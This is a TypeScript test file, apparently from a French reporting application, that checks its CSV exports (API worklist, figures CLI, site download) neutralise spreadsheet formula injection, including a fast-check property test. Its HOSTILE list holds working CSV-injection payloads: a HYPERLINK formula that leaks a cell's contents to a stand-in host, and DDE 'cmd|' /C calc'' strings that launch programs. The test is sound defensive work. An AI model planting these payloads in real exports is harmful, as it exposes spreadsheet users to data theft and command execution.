/**
 * CSV neutralisation: every CSV the product writes (the figures CLI, the site's download
 * of reports/components/excelCsv.js, the API's worklist) must not let a spreadsheet run a
 * text cell as a formula (=, +, -, @ first, or a tab or carriage return). Hostile values
 * come in through the exports (a sector label, lease numbers) and through the writers'
 * inputs directly; fast-check tries arbitrary strings on both CSV modules.
 */
import fs from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import fc from "fast-check";
import { excelCsv, textCell } from "../../reports/components/excelCsv.ts";
import { runEtl } from "../../src/etl/runEtl.ts";
import { renderCsv } from "../../src/figures/render.ts";
import { projectPath } from "../../src/paths.ts";
import { queryRows } from "../../src/duckdb/db.ts";
import { getFigures } from "../../src/warehouse/figures.ts";
import { writeOffice } from "./office.ts";
import { buildTestApp, signIn } from "../util/apiApp.ts";
import { defaultLeaseId, parseCsv, tempDir } from "../util/exports.ts";
import { runChild } from "./process.ts";
import { line, type CheckLine } from "./table.ts";

const FAMILY = "CSV";

export const HOSTILE = [
  `=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")`,
  `+33 6 12 34 56 78`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=1+1`,
  `\t=2+2`,
];
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d[\d\u00a0\u202f ]*(,\d+)?$/;

/** Cells a spreadsheet would run as a formula (numbers excepted). */
export const formulaCells = (csv: string) =>
  parseCsv(csv)
    .flat()
    .filter((c) => FORMULA_START.test(c) && !NUMBER.test(c));

interface SiteCsv {
  excelCsv: (rows: unknown[][]) => string;
  textCell: (v: string) => unknown;
  figuresCsv: (records: unknown[], definitions: unknown[]) => string;
}

export async function checkCsvWriters(log: (l: string) => void = () => undefined): Promise<CheckLine[]> {
  const dir = tempDir("oph-csv-");
  const exportsDir = path.join(dir, "exports");
  // Hostile lease numbers break the lease-number rule (src/etl/exportSchema.ts, issue 10): the ETL
  // quarantines them, so they must reach no CSV at all. Leases 2..7 get them (lease 1, in debt and
  // in sector N, keeps the hostile sector label in the worklist); 700 leases keep the six bad rows
  // under the 1 % refusal share of the file.
  const hostileLease = (i: number) => (i >= 2 && i <= HOSTILE.length + 1 ? HOSTILE[i - 2]! : defaultLeaseId(i));
  writeOffice(exportsDir, { labelN: HOSTILE[0], leaseId: hostileLease, leases: 700 });
  const db = path.join(dir, "w.duckdb");
  await runEtl({ exportsDir, dbPath: db, log: () => undefined });
  const out: CheckLine[] = [];

  // 1. The API's worklist CSV.
  const { app, warehouse } = buildTestApp(db);
  const cookie = await signIn(app, "recouvrement");
  const apiCsv = await (await app.request("/api/cases?format=csv&taille=500", { headers: { Cookie: cookie } })).text();
  const apiCells = parseCsv(apiCsv).flat();
  const quarantined = await warehouse.use((wh) =>
    queryRows<{ valeur: string }>(wh.conn, `select valeur from quarantine where type_fichier = 'baux' and colonne = 'num_contrat'`),
  );
  const leaseCells = parseCsv(apiCsv).map((r) => r[0] ?? "");
  const apiOutcomes = HOSTILE.map((h) => {
    if (formulaCells(apiCsv).length) return `cellule(s) exécutable(s) : ${formulaCells(apiCsv).slice(0, 3).join(" | ")}`;
    if (leaseCells.some((c) => c.includes(h.trim()))) return `« ${h} » présent dans la liste malgré la règle des numéros de bail`;
    return quarantined.some((q) => q.valeur === h || q.valeur === h.trim()) ? null : `« ${h} » absent de la quarantaine`;
  });
  apiOutcomes.push(apiCells.includes(`'${HOSTILE[0]}`) ? null : "libellé de secteur hostile absent ou non neutralisé");
  out.push(
    line(
      FAMILY,
      "API /api/cases?format=csv : numéros de bail hostiles mis en quarantaine par l'ETL, libellé de secteur hostile neutralisé",
      apiOutcomes,
    ),
  );

  // 2. The figures CLI (a process, as a person runs it), and its writer with hostile inputs.
  const cli = await runChild(["src/cli/figures.ts", "--db", db, "--annee", "2024", "--format", "csv", "--par-secteur"]);
  const cliBad = formulaCells(cli.stdout);
  const records = [await warehouse.use((wh) => getFigures(wh, { annee: 2024 }))];
  const hostileRecords = HOSTILE.map((h) => ({ ...records[0]!, secteur: h }));
  const rendered = renderCsv(hostileRecords);
  out.push(
    line(FAMILY, "CLI figures --format csv (processus) et son rendu avec des secteurs hostiles", [
      cli.code === 0 ? (cliBad.length ? `cellules exécutables : ${cliBad.join(" | ")}` : null) : `figures a échoué : ${cli.stderr}`,
      ...HOSTILE.map((h) => (formulaCells(rendered).length ? `« ${h} » exécutable` : null)),
    ]),
  );
  warehouse.close();

  // 3. The site's download (reports/components/excelCsv.js), with hostile definitions and scopes.
  const site = (await import(pathToFileURL(projectPath("reports", "components", "excelCsv.ts")).href)) as SiteCsv;
  const definitions = HOSTILE.map((h, k) => ({ cle: `cle${k}`, groupe: "figures", libelle: h, libelle_court: h, unite: h, definition: h }));
  const siteCsv = site.figuresCsv(hostileRecords, definitions);
  const siteRows = site.excelCsv(HOSTILE.map((h) => [site.textCell(h)]));
  out.push(
    line(
      FAMILY,
      "site : téléchargement CSV des chiffres clés (reports/components/excelCsv.js) avec libellés et secteurs hostiles",
      HOSTILE.map((h) =>
        formulaCells(siteCsv).length || formulaCells(siteRows).length
          ? `« ${h} » exécutable : ${[...formulaCells(siteCsv), ...formulaCells(siteRows)].slice(0, 2).join(" | ")}`
          : null,
      ),
    ),
  );

  // 4. Property: any text cell, from any string, is never a formula, in both modules, and reads back intact after the apostrophe.
  const outcomes: Array<string | null> = [];
  const prefix = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "", " ", "'", '"', ";");
  fc.assert(
    fc.property(prefix, fc.string({ maxLength: 40 }), (p, s) => {
      const v = p + s;
      for (const [name, csv] of [
        ["src/csv/excelCsv.ts", excelCsv([[textCell(v)]])],
        ["reports/components/excelCsv.js", site.excelCsv([[site.textCell(v)]])],
      ] as const) {
        const cells = parseCsv(csv).flat();
        const bad = cells.some((c) => FORMULA_START.test(c));
        const back = cells.length === 1 && (cells[0] === v || cells[0] === `'${v}`);
        outcomes.push(bad || !back ? `${name} : ${JSON.stringify(v)} → ${JSON.stringify(cells)}` : null);
      }
    }),
    { numRuns: 500, seed: 20250101 },
  );
  out.push(line(FAMILY, "propriété (fast-check) : toute cellule texte, de toute chaîne, jamais exécutable, relue intacte", outcomes));
  log(`[csv] ${out.map((l) => `${l.tenus}/${l.fois}`).join(", ")}`);
  fs.rmSync(dir, { recursive: true, force: true });
  return out;
}
